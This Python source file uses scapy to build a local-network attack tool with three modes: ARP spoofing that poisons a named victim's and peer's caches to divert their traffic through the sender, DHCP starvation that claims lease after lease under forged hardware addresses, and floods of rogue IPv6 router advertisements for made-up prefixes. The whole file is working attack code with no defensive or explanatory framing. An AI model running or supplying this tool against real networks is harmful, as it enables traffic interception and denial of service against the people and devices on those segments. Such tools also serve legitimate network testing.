"""Forged frames on the own segment: ARP replies that divert traffic, DHCP leases for hosts that do not exist, router
advertisements for networks that do not exist."""

import argparse
import logging
import random
import time

logging.disable(logging.WARNING)  # scapy warns of interfaces without addresses

from scapy.all import (
    ARP,
    BOOTP,
    DHCP,
    IP,
    UDP,
    Ether,
    ICMPv6ND_RA,
    ICMPv6NDOptPrefixInfo,
    ICMPv6NDOptSrcLLAddr,
    IPv6,
    conf,
    get_if_hwaddr,
    getmacbyip,
    sendp,
    srp1,
)

EVERYBODY = "ff:ff:ff:ff:ff:ff"


def hardware_address(chance: random.Random, vendor: str) -> str:
    return ":".join([vendor, *(f"{chance.randrange(256):02x}" for _ in range(3))])


def linked(hardware: str) -> str:
    """The link-local IPv6 address of a hardware address (RFC 4291)."""
    first, *rest = bytes.fromhex(hardware.replace(":", ""))
    halves = bytes([first ^ 2, *rest[:2], 0xFF, 0xFE, *rest[2:]])
    return "fe80::" + ":".join(halves[at : at + 2].hex() for at in range(0, 8, 2))


def arp(options, _chance):
    """Tells the victim that the peer is here, and the other way round."""
    own = get_if_hwaddr(options.interface)
    hardware = {address: getmacbyip(address) or EVERYBODY for address in (options.victim, options.peer)}
    pairs = [(options.victim, options.peer), (options.peer, options.victim)][: 2 if options.both else 1]
    for _ in range(options.count):
        for told, claimed in pairs:
            frame = Ether(src=own, dst=hardware[told]) / ARP(
                op=1 if options.request else 2, hwsrc=own, psrc=claimed, pdst=told, hwdst=hardware[told]
            )
            sendp(frame, iface=options.interface, verbose=False)
        time.sleep(options.pause)


def dhcp(options, chance):
    """Takes one lease after another: asks, and accepts what is offered."""
    conf.checkIPaddr = False
    for number in range(options.count):
        client = hardware_address(chance, options.vendor)
        identifier = chance.getrandbits(32)
        base = (
            Ether(src=client, dst=EVERYBODY)
            / IP(src="0.0.0.0", dst="255.255.255.255")
            / UDP(sport=68, dport=67)
            / BOOTP(chaddr=bytes.fromhex(client.replace(":", "")) + bytes(10), xid=identifier, flags=0x8000)
        )
        ask = base / DHCP(options=[("message-type", "discover"), ("hostname", f"host-{number}"), "end"])
        offer = srp1(ask, iface=options.interface, timeout=1.2, verbose=False, filter="udp port 68")
        if offer is not None and DHCP in offer and offer[BOOTP].xid == identifier:
            server = next((entry[1] for entry in offer[DHCP].options if entry[0] == "server_id"), None)
            accept = base / DHCP(
                options=[
                    ("message-type", "request"),
                    ("requested_addr", offer[BOOTP].yiaddr),
                    ("server_id", server),
                    "end",
                ]
            )
            sendp(accept, iface=options.interface, verbose=False)
        time.sleep(options.pause)


def router(options, chance):
    """Advertises routers of networks that do not exist."""
    for _ in range(options.count):
        sender = hardware_address(chance, options.vendor)
        prefix = f"2001:db8:{chance.randrange(65536):x}:{chance.randrange(65536):x}::"
        frame = (
            Ether(src=sender, dst="33:33:00:00:00:01")
            / IPv6(src=linked(sender), dst="ff02::1", hlim=255)
            / ICMPv6ND_RA(routerlifetime=chance.choice((0, 1800, 65535)))
            / ICMPv6NDOptPrefixInfo(prefix=prefix, prefixlen=64)
            / ICMPv6NDOptSrcLLAddr(lladdr=sender)
        )
        sendp(frame, iface=options.interface, verbose=False)
        time.sleep(options.pause)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("kind", choices=("arp", "dhcp", "router"))
    parser.add_argument("--interface", required=True)
    parser.add_argument("--count", type=int, default=20)
    parser.add_argument("--pause", type=float, default=0.5, help="seconds between two rounds")
    parser.add_argument("--vendor", default="00:0c:29", help="first half of forged hardware addresses")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--victim")
    parser.add_argument("--peer")
    parser.add_argument("--both", action="store_true", help="tells the peer too")
    parser.add_argument("--request", action="store_true", help="forges requests instead of replies")
    options = parser.parse_args()
    {"arp": arp, "dhcp": dhcp, "router": router}[options.kind](options, random.Random(options.seed))


if __name__ == "__main__":
    main()
